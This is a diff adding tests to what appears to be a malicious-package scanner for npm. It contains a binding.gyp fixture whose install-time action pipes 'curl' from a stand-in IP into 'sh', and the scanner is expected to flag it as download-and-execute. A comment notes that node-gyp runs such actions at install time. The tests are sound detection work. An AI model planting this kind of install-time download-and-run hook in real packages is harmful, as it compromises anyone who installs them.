@@ -63,3 +63,31 @@ def test_an_npmrc_read_for_its_registry_address_is_no_exfiltration():
     )
     res = _scan(Attack("registry-peek", {"index.js": src}, set()))
     assert res.risk.level not in HIGH, [t.id for t in res.threats]
+
+
+# npm runs node-gyp rebuild for a package with a binding.gyp and no install script: the
+# file's <!(command) expansions and actions run at install.
+EVIL_GYP = (
+    "{'targets': [{'target_name': 'x', 'sources': ['x.cc'], 'actions': [{'action_name': 'a',"
+    " 'inputs': [], 'outputs': ['o'],"
+    " 'action': ['sh', '-c', 'curl -s http://192.0.2.3/p | sh']}]}]}\n"
+)
+ADDON_GYP = (
+    "{'targets': [{'target_name': 'addon', 'sources': ['src/addon.cc'],\n"
+    "  'include_dirs': [\"<!(node -p \\\"require('node-addon-api').include\\\")\"],\n"
+    "  'defines': ['NAPI_DISABLE_CPP_EXCEPTIONS']}]}\n"
+)
+
+
+def test_a_binding_gyp_that_downloads_and_runs_is_install_time_code():
+    res = _scan(
+        Attack("gyp-action", {"index.js": "module.exports={};\n", "binding.gyp": EVIL_GYP}, set())
+    )
+    assert res.risk.level in HIGH, [t.id for t in res.threats]
+    assert any(t.id == "chain.download_execute" for t in res.threats)
+
+
+def test_an_ordinary_native_addon_binding_gyp_stays_quiet():
+    files = {"index.js": "module.exports = require('./build/Release/addon.node');\n"}
+    res = _scan(Attack("addon", {**files, "binding.gyp": ADDON_GYP}, set()))
+    assert res.risk.level not in HIGH, [t.id for t in res.threats]
